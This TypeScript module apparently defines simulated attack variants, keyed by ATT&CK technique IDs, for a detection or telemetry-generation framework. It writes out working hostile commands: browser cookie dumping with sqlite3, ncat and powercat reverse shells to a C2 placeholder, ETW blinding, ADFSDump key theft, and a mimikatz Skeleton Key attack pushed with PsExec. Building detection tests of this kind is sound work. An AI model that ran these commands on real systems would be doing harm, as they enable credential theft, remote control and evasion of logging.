import { IMPACKET_OUT, remoteLogon, v } from "../dsl";
import type { Variant } from "../types";

const CHROME_COOKIES = "{{local}}\\Google\\Chrome\\User Data\\Default\\Network\\Cookies";
const FF_PROFILE = "{{appdata}}\\Mozilla\\Firefox\\Profiles\\{{rand2}}.default-release";
/** The autologger session that feeds the Windows PowerShell and Application channels. */
const AUTOLOGGER_APP = "HKLM\\SYSTEM\\CurrentControlSet\\Control\\WMI\\Autologger\\EventLog-Application";
const PS_PROVIDER = "{A0C1853B-5C40-4B15-8766-3CF1C58F985A}";

/**
 * Extra variants (see ../extras.ts) for collection, staging, cookie theft, raw-socket C2 and ETW blinding done
 * the way Atomic Red Team and intrusion reports show it: `dir /b /s | findstr`, recon redirected into %TEMP%
 * by an implant's `cmd.exe /C`, Compress-Archive into Temp, sqlite3 reading the cookie stores, Nmap's ncat and
 * powercat, the .NET / autologger ETW switches, ADFSDump's WID pipe and DKM read, and Skeleton Key run on a DC.
 */
export const extrasM: Readonly<Record<string, readonly Variant[]>> = {
  // Atomic T1119 #1: a recursive bare listing filtered by extension (cmd spawns a child cmd for the
  // built-in on the left of the pipe, findstr directly), then a copy loop into a Temp folder.
  T1119: [
    v("dir-findstr", [
      {
        cmd: 'cmd.exe /c dir C:\\Users /b /s | findstr /i /e ".docx .xlsx .pdf" > {{tmp}}\\{{rand}}.txt',
        as: "c",
        files: ["{{tmp}}\\{{rand}}.txt"],
      },
      { cmd: 'C:\\Windows\\system32\\cmd.exe  /S /D /c" dir C:\\Users /b /s "', parent: "c" },
      { cmd: 'findstr  /i /e ".docx .xlsx .pdf"', parent: "c" },
      {
        cmd: 'cmd.exe /c for /F "delims=" %f in ({{tmp}}\\{{rand}}.txt) do copy /Y "%f" {{tmp}}\\{{rand2}}\\',
        reads: ["{{tmp}}\\{{rand}}.txt"],
        files: ["{{tmp}}\\{{rand2}}\\{{name}}.docx", "{{tmp}}\\{{rand2}}\\{{name}}.pdf"],
      },
    ]),
    // Atomic T1119 #4, as an implant's `shell` command runs it: each line is its own `cmd.exe /C` whose
    // redirection into %TEMP% the child never sees.
    v(
      "recon-export-cmd",
      [
        {
          cmd: "{{appdata}}\\{{name}}.exe",
          as: "imp",
          parent: "@explorer",
          net: [["{{c2}}", 443]],
          keep: true,
        },
        {
          cmd: "C:\\Windows\\system32\\cmd.exe /C sc query type= service > %TEMP%\\{{rand}}1.txt",
          as: "c1",
          parent: "imp",
          files: ["{{tmp}}\\{{rand}}1.txt"],
        },
        { cmd: "sc  query type= service", parent: "c1" },
        {
          cmd: "C:\\Windows\\system32\\cmd.exe /C wmic process list > %TEMP%\\{{rand}}2.txt",
          as: "c2",
          parent: "imp",
          files: ["{{tmp}}\\{{rand}}2.txt"],
        },
        { cmd: "wmic  process list", parent: "c2" },
        {
          cmd: "C:\\Windows\\system32\\cmd.exe /C tree C:\\Users /F > %TEMP%\\{{rand}}3.txt",
          as: "c3",
          parent: "imp",
          files: ["{{tmp}}\\{{rand}}3.txt"],
        },
        { cmd: "tree  C:\\Users /F", image: "C:\\Windows\\System32\\tree.com", parent: "c3" },
      ],
      { shell: "none" },
    ),
    // Atomic T1119 #3: the same inventory from PowerShell, each result written to Temp for later exfiltration.
    v(
      "recon-export-ps",
      [
        { ps: "Get-Service > $env:TEMP\\{{rand}}1.txt", files: ["{{tmp}}\\{{rand}}1.txt"] },
        { ps: "Get-ChildItem Env: > $env:TEMP\\{{rand}}2.txt", files: ["{{tmp}}\\{{rand}}2.txt"] },
        { ps: "Get-Process > $env:TEMP\\{{rand}}3.txt", files: ["{{tmp}}\\{{rand}}3.txt"] },
      ],
      { shell: "ps" },
    ),
  ],
  // Atomic T1074.001 #3: a folder zipped into the user's Temp before exfiltration.
  "T1074.001": [
    v(
      "compress-archive-temp",
      [
        {
          ps: 'Compress-Archive -Path "$env:USERPROFILE\\Documents" -DestinationPath $env:TEMP\\{{rand}}.zip -Force',
          reads: ["{{home}}\\Documents\\{{name}}.docx"],
          files: ["{{tmp}}\\{{rand}}.zip"],
        },
      ],
      { shell: "ps" },
    ),
  ],
  // Atomic T1539 #1/#2: the browser is killed to release its lock, then sqlite3 dumps the cookie table
  // (PowerShell pipes the query into `cmd /c sqlite3.exe <db>`).
  T1539: [
    v(
      "sqlite3-chrome",
      [
        {
          ps: `Stop-Process -Name chrome -Force -ErrorAction SilentlyContinue\n"select host_key, name, encrypted_value, path, expires_utc, is_secure, is_httponly from [Cookies];" | cmd /c {{tools}}\\sqlite3.exe "${CHROME_COOKIES}" | Out-File -FilePath {{tmp}}\\{{rand}}.txt`,
          files: ["{{tmp}}\\{{rand}}.txt"],
        },
        {
          cmd: `"C:\\Windows\\system32\\cmd.exe" /c {{tools}}\\sqlite3.exe "${CHROME_COOKIES}"`,
          as: "c",
          delay: 400,
        },
        { cmd: `{{tools}}\\sqlite3.exe  "${CHROME_COOKIES}"`, parent: "c", reads: [CHROME_COOKIES] },
      ],
      { shell: "ps" },
    ),
    v("sqlite3-firefox", [
      {
        cmd: `{{tools}}\\sqlite3.exe "${FF_PROFILE}\\cookies.sqlite" "select host, name, value, path, expiry, isSecure, isHttpOnly, sameSite from moz_cookies;"`,
        reads: [`${FF_PROFILE}\\cookies.sqlite`],
      },
    ]),
  ],
  // Nmap's ncat as a TLS reverse shell (it spawns the shell itself), and powercat loaded from disk in an
  // interactive PowerShell (IEX of the file text sidesteps the execution policy).
  T1095: [
    v("ncat-ssl-reverse", [
      {
        cmd: "{{tools}}\\ncat.exe --ssl {{c2ip}} 443 -e cmd.exe",
        as: "nc",
        net: [["{{c2ip}}", 443]],
        keep: true,
      },
      { cmd: "cmd.exe", parent: "nc", keep: true },
    ]),
    v(
      "powercat",
      [
        {
          ps: 'IEX ([IO.File]::ReadAllText("$env:USERPROFILE\\Downloads\\powercat.ps1")); powercat -c {{c2ip}} -p 443 -e cmd',
          reads: ["{{downloads}}\\powercat.ps1"],
          net: [["{{c2ip}}", 443]],
        },
        { cmd: "cmd", image: "C:\\Windows\\System32\\cmd.exe", keep: true },
      ],
      { shell: "ps" },
    ),
  ],
  // Atomic T1562.006 #9: .NET runtimes started by this user stop emitting CLR ETW (blinds assembly-load
  // telemetry before execute-assembly style tooling).
  "T1562.006": [
    v("complus-etw-hkcu", [
      {
        cmd: "reg add HKCU\\Environment /v COMPlus_ETWEnabled /t REG_SZ /d 0 /f",
        reg: [["HKCU\\Environment", "COMPlus_ETWEnabled", "0"]],
      },
    ]),
    // Graeber's autologger tampering: the PowerShell provider removed from the EventLog-Application session,
    // which deletes its key under the autologger (effective at the next boot).
    v(
      "remove-etwtraceprovider",
      [
        {
          ps: `Remove-EtwTraceProvider -AutologgerName EventLog-Application -Guid '${PS_PROVIDER}'`,
          then: [{ id: "del", kind: "registry.key.delete", key: `${AUTOLOGGER_APP}\\${PS_PROVIDER}` }],
        },
      ],
      { shell: "ps", elevated: true },
    ),
  ],
  // Atomic T1497.001: the ACPI thermal zone class is empty inside most hypervisors.
  "T1497.001": [
    v(
      "thermal-zone",
      [
        {
          ps: '$error.clear(); Get-WmiObject -Query "SELECT * FROM MSAcpi_ThermalZoneTemperature" -Namespace "root/wmi" -ErrorAction SilentlyContinue; if ($error) { exit }',
        },
      ],
      { shell: "ps" },
    ),
  ],
  // ADFSDump run through wmiexec on the AD FS server (as the row's other variant), with what the tool itself
  // does: the configuration (and encrypted signing key) read over the Windows Internal Database pipe, then the
  // DKM key read from the thumbnailPhoto of the contact under CN=ADFS in AD.
  "T1606.002": [
    v(
      "adfsdump-wid",
      [
        {
          cmd: `cmd.exe /Q /c C:\\Windows\\Temp\\ADFSDump.exe ${IMPACKET_OUT}`,
          as: "c",
          host: "@server",
          parent: "@wmiprvse",
          user: "@admin",
          then: remoteLogon("wmix", "Kerberos"),
        },
        {
          cmd: "C:\\Windows\\Temp\\ADFSDump.exe",
          host: "@server",
          parent: "c",
          user: "@admin",
          pipeConnects: ["\\MICROSOFT##WID\\tsql\\query"],
          net: [["@dc", 389]],
          then: [
            {
              id: "dkm-logon",
              kind: "logon",
              host: "@dc",
              session: "dkm",
              user: "@admin",
              logonType: 3,
              source: "@server",
              authPackage: "Kerberos",
            },
            {
              id: "dkm",
              kind: "directory.access",
              host: "@dc",
              session: "dkm",
              object: "CN={{guid}},CN=ADFS,CN=Microsoft,CN=Program Data",
              objectClass: "contact",
              properties: ["8d3bca50-1d7e-11d0-a081-00aa006c33ed"],
              accessMask: "0x10",
              delayMs: 60,
            },
            { id: "dkm-logoff", kind: "logoff", host: "@dc", session: "dkm", delayMs: 700 },
          ],
        },
      ],
      { shell: "none" },
    ),
  ],
  // misc::skeleton only works on a domain controller. As in the 2015 Skeleton Key intrusions it is pushed with
  // PsExec (-c copies the binary into ADMIN$; the domain admin's network token is unfiltered, so debug
  // privilege is there without -s), and it opens lsass for VM write and a thread.
  "T1556.001": [
    v(
      "psexec-skeleton-dc",
      [
        {
          cmd: '{{tools}}\\PsExec64.exe -accepteula \\\\{{dc}} -c {{tools}}\\mimikatz.exe "privilege::debug" "misc::skeleton" exit',
          net: [["@dc", 445]],
          then: [
            {
              id: "psx-logon",
              kind: "logon",
              host: "@dc",
              session: "psx",
              user: "@admin",
              logonType: 3,
              source: "@workstation",
              authPackage: "Kerberos",
            },
            ...["mimikatz.exe", "PSEXESVC.exe"].map((f, k) => ({
              id: `adm${k}`,
              kind: "share.access" as const,
              host: "@dc",
              session: "psx",
              share: "ADMIN$",
              relativeTarget: f,
              accessMask: "0x2",
            })),
            {
              id: "svc",
              kind: "service.install",
              host: "@dc",
              proc: "@services",
              session: "psx",
              name: "PSEXESVC",
              imagePath: "%SystemRoot%\\PSEXESVC.exe",
            },
          ],
        },
        // The SMB server writes the copies into C:\Windows.
        { by: "@system", host: "@dc", files: ["C:\\Windows\\mimikatz.exe", "C:\\Windows\\PSEXESVC.exe"] },
        {
          cmd: "C:\\Windows\\PSEXESVC.exe",
          as: "pss",
          host: "@dc",
          parent: "@services",
          user: "@system",
          pipes: ["\\PSEXESVC", "\\PSEXESVC-{{me}}-{{n}}-stdin", "\\PSEXESVC-{{me}}-{{n}}-stdout"],
        },
        {
          cmd: '"C:\\Windows\\mimikatz.exe" "privilege::debug" "misc::skeleton" exit',
          host: "@dc",
          parent: "pss",
          user: "@admin",
          elevated: true,
          access: ["@lsass", "0x143a"],
        },
      ],
      { user: "@admin", elevated: true },
    ),
  ],
};
